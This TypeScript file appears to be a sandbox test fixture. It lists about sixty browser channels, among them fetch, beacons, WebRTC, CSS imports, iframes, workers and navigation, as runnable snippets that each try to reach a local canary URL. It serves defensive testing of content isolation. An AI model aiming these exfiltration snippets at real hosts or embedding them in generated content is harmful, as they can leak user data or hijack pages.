/* biome-ignore-all lint/suspicious/noTemplateCurlyInString: the strings are code, which fills its own templates. */
/**
 * Every way by which a document can make something leave, as code that a component would hold. `TO` is the
 * canary; what stands after the slash says which way it was. Each is tried, none may stop the others.
 */
export const WAYS_OUT: Record<string, string> = {
  fetch: "fetch(TO + 'fetch', { mode: 'no-cors' })",
  "fetch keepalive":
    "fetch(TO + 'keepalive', { mode: 'no-cors', keepalive: true, method: 'POST', body: 'x' })",
  xhr: "{ const x = new XMLHttpRequest(); x.open('GET', TO + 'xhr'); x.send(); }",
  websocket: "new WebSocket(TO.replace('http', 'ws') + 'websocket')",
  eventsource: "new EventSource(TO + 'eventsource')",
  beacon: "navigator.sendBeacon(TO + 'beacon', 'x')",
  image: "new Image().src = TO + 'image'",
  "image srcset": "add('img', { srcset: TO + 'srcset 1x' })",
  "svg image":
    "document.body.insertAdjacentHTML('beforeend', `<svg><image href=\"${TO}svg\"/></svg>`)",
  "css url": "add('style', { textContent: `body{background:url(${TO}css)}` })",
  "css import": "add('style', { textContent: `@import url(${TO}import);` })",
  "css sheet": "add('link', { rel: 'stylesheet', href: TO + 'sheet' })",
  font: "add('style', { textContent: `@font-face{font-family:x;src:url(${TO}font)} body{font-family:x}` })",
  "font face": "new FontFace('y', `url(${TO}fontface)`).load()",
  script: "add('script', { src: TO + 'script' })",
  "script with a nonce":
    "add('script', { src: TO + 'nonce', nonce: document.querySelector('script').nonce })",
  "module import": "import(TO + 'module')",
  prefetch: "add('link', { rel: 'prefetch', href: TO + 'prefetch' })",
  preload: "add('link', { rel: 'preload', as: 'image', href: TO + 'preload' })",
  modulepreload: "add('link', { rel: 'modulepreload', href: TO + 'modulepreload' })",
  preconnect: "add('link', { rel: 'preconnect', href: TO })",
  "dns-prefetch": "add('link', { rel: 'dns-prefetch', href: TO })",
  icon: "add('link', { rel: 'icon', href: TO + 'icon' })",
  manifest: "add('link', { rel: 'manifest', href: TO + 'manifest' })",
  "speculation rules":
    "add('script', { type: 'speculationrules', textContent: JSON.stringify({ prefetch: [{ urls: [TO + 'speculate'] }], prerender: [{ urls: [TO + 'prerender'] }] }) })",
  frame: "add('iframe', { src: TO + 'frame' })",
  "frame srcdoc":
    "add('iframe', { srcdoc: `<img src=\"${TO}srcdoc\"><script>fetch('${TO}srcdoc2')</` + `script>` })",
  "frame data": "add('iframe', { src: `data:text/html,<img src=\"${TO}data\">` })",
  "frame javascript": "add('iframe', { src: `javascript:fetch('${TO}javascript')` })",
  object: "add('object', { data: TO + 'object' })",
  embed: "add('embed', { src: TO + 'embed' })",
  video: "add('video', { src: TO + 'video', autoplay: true })",
  audio: "add('audio', { src: TO + 'audio', autoplay: true })",
  track: "add('video', { innerHTML: `<track default src=\"${TO}track\">` })",
  "worker of a blob":
    "new Worker(blob(`fetch('${TO}worker', {mode:'no-cors'}); importScripts('${TO}scripts')`))",
  "worker elsewhere": "new Worker(TO + 'worker2')",
  "shared worker": "new SharedWorker(blob(`fetch('${TO}shared')`))",
  "service worker": "navigator.serviceWorker.register(TO + 'service')",
  webrtc: "rtc(globalThis)",
  "webrtc of a frame": "rtc(add('iframe', {}).contentWindow)",
  "webrtc of a srcdoc": "add('iframe', { srcdoc: `<script>(${rtc})(window)</` + `script>` })",
  webtransport: "new WebTransport(TO.replace('http', 'https') + 'webtransport')",
  "webtransport in a worker":
    "new Worker(blob(`new WebTransport('${TO.replace('http', 'https')}')`))",
  "form self": "submit('_self')",
  "form blank": "submit('_blank')",
  "form top": "submit('_top')",
  popup: "open(TO + 'popup')",
  "link top": "press({ href: TO + 'linktop', target: '_top' })",
  "link blank": "press({ href: TO + 'linkblank', target: '_blank' })",
  "link ping": "press({ href: '#x', ping: TO + 'ping' })",
  "top location": "top.location = TO + 'top'",
  "top replace": "top.location.replace(TO + 'replace')",
  "parent location": "parent.location.href = TO + 'parent'",
  reporting:
    "add('meta', { httpEquiv: 'Content-Security-Policy', content: `img-src 'none'; report-uri ${TO}report` })",
  payment:
    "new PaymentRequest([{ supportedMethods: TO + 'pay' }], { total: { label: 'x', amount: { currency: 'EUR', value: '1' } } }).canMakePayment()",
};

/** Ways that end the document itself, so each has a frame of its own. */
export const WAYS_AWAY: Record<string, string> = {
  "location.href": "location.href = TO + 'href'",
  "location.replace": "location.replace(TO + 'locreplace')",
  "meta refresh": "add('meta', { httpEquiv: 'refresh', content: '0;url=' + TO + 'refresh' })",
  "link download": "press({ href: TO + 'download', download: 'x' })",
  "link self": "press({ href: TO + 'linkself' })",
  "window.open self": "open(TO + 'openself', '_self')",
  "javascript url": "location.href = `javascript:location='${TO}js'`",
};

/** What the snippets above use. */
export function toAttempts(ways: Record<string, string>, canaryPort: number): string {
  return `
    const TO = "http://127.0.0.1:${canaryPort}/";
    const add = (name, props) => {
      const element = Object.assign(document.createElement(name), props);
      document.head.append(element);
      if (!["STYLE", "LINK", "SCRIPT", "META"].includes(element.tagName)) document.body.append(element);
      return element;
    };
    const blob = (code) => URL.createObjectURL(new Blob([code], { type: "text/javascript" }));
    const press = (props) => add("a", props).click();
    const submit = (target) => add("form", { action: TO + "form" + target, target, method: "post" }).submit();
    function rtc(scope) {
      const peer = new scope.RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:${canaryPort}" }] });
      peer.createDataChannel("x");
      return peer.createOffer().then((offer) => peer.setLocalDescription(offer));
    }
    const outcomes = (globalThis.outcomes = {});
    for (const [name, run] of Object.entries({${Object.entries(ways)
      .map(([name, code]) => `${JSON.stringify(name)}: () => ${toBody(code)}`)
      .join(",\n")}})) {
      outcomes[name] = "done";
      try {
        Promise.resolve(run()).catch((error) => { outcomes[name] = String(error); });
      } catch (error) { outcomes[name] = String(error); }
    }
    globalThis.attempted = true;`;
}

function toBody(code: string): string {
  return code.startsWith("{") ? code : `(${code})`;
}
